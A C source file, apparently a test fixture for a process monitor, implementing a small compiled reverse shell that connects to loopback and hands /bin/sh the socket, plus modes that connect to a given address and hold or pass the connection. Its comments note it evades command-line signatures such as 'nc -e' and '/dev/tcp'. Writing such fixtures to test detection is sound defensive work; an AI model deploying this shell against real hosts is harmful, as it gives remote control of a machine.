/* SPDX-License-Identifier: MIT */
/* monitor-implant.c: a compiled reverse shell for the monitor's end-to-end tests. Its command line
 * says nothing (no nc -e, no /dev/tcp): only the shell's standard input being a TCP socket gives
 * it away. Built static, pushed into a test container, pointed at 127.0.0.1 inside it.
 * `implant PORT ADDR hold` is a plain client instead: it connects to ADDR:PORT and holds the
 * connection 4 s. `implant PORT ADDR exec PROG ARGS...` connects, then execs PROG with the
 * connection on descriptor 3 (not a standard stream): what a program that inherits a connection
 * looks like when the monitor reads its exec. */
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int hold = argc == 4 && strcmp(argv[3], "hold") == 0;
	int run = argc >= 5 && strcmp(argv[3], "exec") == 0;

	if (argc < 2 || fd < 0)
		return 2;
	sa.sin_port = htons((unsigned short)atoi(argv[1]));
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if ((hold || run) && inet_pton(AF_INET, argv[2], &sa.sin_addr) != 1)
		return 2;
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return 1;
	if (hold) {
		sleep(4);
		return 0;
	}
	if (run) {
		if (fd != 3 && (dup2(fd, 3) < 0 || close(fd) < 0))
			return 1;
		execv(argv[4], argv + 4);
		return 1;
	}
	dup2(fd, 0);
	dup2(fd, 1);
	execl("/bin/sh", "sh", (char *)NULL);
	return 1;
}
